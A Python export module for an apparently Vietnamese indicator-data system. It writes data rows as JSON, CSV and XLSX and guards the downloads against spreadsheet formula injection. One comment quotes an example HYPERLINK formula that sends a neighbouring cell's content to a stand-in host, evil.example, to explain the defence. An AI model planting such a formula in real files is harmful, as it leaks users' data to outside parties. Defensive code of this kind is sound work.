"""The stored values as rows for export_values and file downloads, and the one CSV/XLSX writer every
download uses. The keys are a contract that other systems and checks rely on: add keys, never rename
or drop one."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

import orjson
from openpyxl import Workbook
from openpyxl.cell.cell import ERROR_CODES, WriteOnlyCell

from .engine import empty_status_fields, status_fields
from .models import DataValue

BASE_KEYS = ["indicator", "unit", "period", "value", "numerator", "denominator", "raw", "source", "note"]


def _num(d):
    """Decimal → int when whole, else float: JSON numbers, never strings."""
    if d is None:
        return None
    return int(d) if d == d.to_integral_value() else float(d)


def export_rows(queryset=None) -> list[dict]:
    qs = DataValue.objects.all() if queryset is None else queryset
    rows = qs.order_by(
        "indicator__order", "indicator__code", "unit__order", "unit__code", "period"
    ).values_list(
        "id",
        "indicator__code",
        "unit__code",
        "period",
        "value",
        "numerator",
        "denominator",
        "raw",
        "source",
        "note",
        "tiers",
    )
    out, ids = [], []
    for _id, ind, unit, period, value, num, den, raw, source, note, tiers in rows:
        row = {
            "indicator": ind,
            "unit": unit,
            "period": period,
            "value": _num(value),
            "numerator": _num(num),
            "denominator": _num(den),
            "raw": raw,
            "source": source,
            "note": note,
        }
        if tiers:
            row["tiers"] = tiers
        out.append(row)
        ids.append(_id)
    add_status_fields(out, ids)
    return out


def add_status_fields(rows: list[dict], ids: list[int]) -> None:
    """The status engine's columns (target, status, previous_period, previous_value, change,
    change_text, …) for each row; see indicators.engine.status_fields."""
    computed = status_fields(ids)
    for row, pk in zip(rows, ids, strict=True):
        row.update(computed.get(pk) or empty_status_fields())


def to_json(rows: list[dict]) -> bytes:
    return orjson.dumps(rows, option=orjson.OPT_INDENT_2)


def _columns(rows: list[dict]) -> list[str]:
    keys = list(BASE_KEYS)
    for row in rows:
        for k in row:
            if k not in keys:
                keys.append(k)
    return keys


def _flat(value):
    """A cell of a value row: lists and dicts (flags, tiers) as compact JSON text."""
    return orjson.dumps(value).decode() if isinstance(value, dict | list) else value


def to_csv(rows: list[dict]) -> bytes:
    keys = _columns(rows)
    return write_csv(keys, ([_flat(row.get(k)) for k in keys] for row in rows))


def to_xlsx(rows: list[dict]) -> bytes:
    keys = _columns(rows)
    return write_xlsx(keys, ([_flat(row.get(k)) for k in keys] for row in rows), sheet="so-lieu")


# ---------------------------------------------------------------------------------- the one writer
# Every spreadsheet we hand out goes through these two functions: the API's ?format=csv|xlsx,
# `manage.py export_values` and the indicator page's downloads. Text in them comes from people (notes,
# raw texts) and from the catalogue (names), so it must never run as a formula when the file is opened
# (OWASP "CSV injection": `=HYPERLINK("http://evil.example/?x="&A1,"click")` sends a neighbouring cell
# away). Numbers stay numbers.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XLSX_MAX_TEXT = 32767  # Excel's limit for one cell
XLSX_CUT = " …[đã cắt: ô Excel chứa tối đa 32.767 ký tự]"
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_ILLEGAL = re.compile(r"[\[\]:*?/\\]")


def csv_cell(value):
    """A text a spreadsheet would read as a formula gets a leading `'`, which shows it as text."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(header: list[str], rows: Iterable[list]) -> bytes:
    """UTF-8 with a BOM (Excel then reads Vietnamese letters right), dot decimals, for other systems."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([csv_cell(h) for h in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buf.getvalue().encode("utf-8-sig")


def _xlsx_text(ws, text: str):
    """A text as a string cell, whatever it looks like. openpyxl would store `=…` as a formula and
    `#N/A` as an error; characters XML 1.0 cannot hold (control characters) become U+FFFD, and a text
    longer than a cell holds says it was cut instead of being cut silently."""
    text = _XML_ILLEGAL.sub("\ufffd", text)
    if len(text) > XLSX_MAX_TEXT:
        text = text[: XLSX_MAX_TEXT - len(XLSX_CUT)] + XLSX_CUT
    if not text.startswith("=") and text not in ERROR_CODES:
        return text  # openpyxl writes it as a string cell as it is
    cell = WriteOnlyCell(ws, value=None)
    cell.value = text
    cell.data_type = "s"
    return cell


def write_xlsx(header: list[str], rows: Iterable[list], *, sheet: str, title: str | None = None) -> bytes:
    """One sheet: an optional title row, the header, the rows. Numbers as numbers, every text as text."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(_SHEET_ILLEGAL.sub("-", sheet)[:31] or "so-lieu")

    def cells(values):
        return [_xlsx_text(ws, v) if isinstance(v, str) else v for v in values]

    if title is not None:
        ws.append(cells([title]))
    ws.append(cells(header))
    for row in rows:
        ws.append(cells(row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
